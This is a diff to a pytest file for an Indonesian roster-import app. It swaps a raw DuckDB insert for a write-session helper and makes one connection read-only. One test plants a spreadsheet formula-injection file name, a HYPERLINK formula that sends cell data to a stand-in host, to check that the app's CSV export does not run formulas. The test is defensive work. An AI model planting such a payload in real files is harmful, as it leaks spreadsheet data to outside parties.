@@ -9,6 +9,7 @@ import shutil
 from pathlib import Path
 
 import duckdb
+import polars as pl
 import pytest
 from conftest import TEST_NIK_KEY, open_app
 from messy_lists import GURU_EXPECTED, add_participants, guru_list, real_warehouse, write_xlsx
@@ -16,6 +17,7 @@ from messy_lists import GURU_EXPECTED, add_participants, guru_list, real_warehou
 from ucj import fmt
 from ucj.accounts import Store, accounts_path
 from ucj.ingest import rosters
+from ucj.warehouse import write
 
 DATA_DATE = dt.date(2025, 4, 15)
 # the real warehouse holds all of Indonesia: the list is matched within Labuhanbatu ('Sidomulyo' is then one desa)
@@ -129,7 +131,7 @@ def test_commit_then_history_and_kesenjangan(page):
     assert list(history["Oleh"]) == ["Petugas Dinas", "penguji"] and list(history["Baru"]) == [12, 4]
     # the page now says the same file would change nothing
     assert any("sudah diimpor sebagai impor #2" in i.value for i in at.info)
-    con = duckdb.connect(str(path), read_only=False)  # same process and settings as the app's connection
+    con = duckdb.connect(str(path), read_only=True)  # the version the app published
     try:
         stored = con.execute("select count(*) from anggota_kelompok where impor_id = 2").fetchall()[0][0]
     finally:
@@ -155,12 +157,11 @@ def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, m
 
     at, path = page
     formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik").csv'
-    con = duckdb.connect(str(path), read_only=False)
-    try:
-        con.execute("insert into impor_log select 2, 'guru_honorer', ?, 'ab', 'penguji', timestamp '2025-04-20 10:00',"
-                    " 1, 1, '{}'", [formula])
-    finally:
-        con.close()
+    with write.session(path) as con, write.transaction(con) as w:  # published beside the open app, as a load is
+        w.insert("impor_log", pl.DataFrame({
+            "impor_id": [2], "jenis": ["guru_honorer"], "nama_file": [formula], "sha256_file": ["ab"],
+            "oleh": ["penguji"], "diimpor_at": [dt.datetime(2025, 4, 20, 10)], "jumlah_baris": [1],
+            "jumlah_baru": [1], "ringkasan_json": ["{}"]}))
     other = io.BytesIO()  # the same people in another workbook: another file, checked again under its own name
     write_xlsx(guru_list(), other)
     at.file_uploader(key="impor_berkas").upload("daftar_1210010101900001_budi.xlsx", other.getvalue()).run()
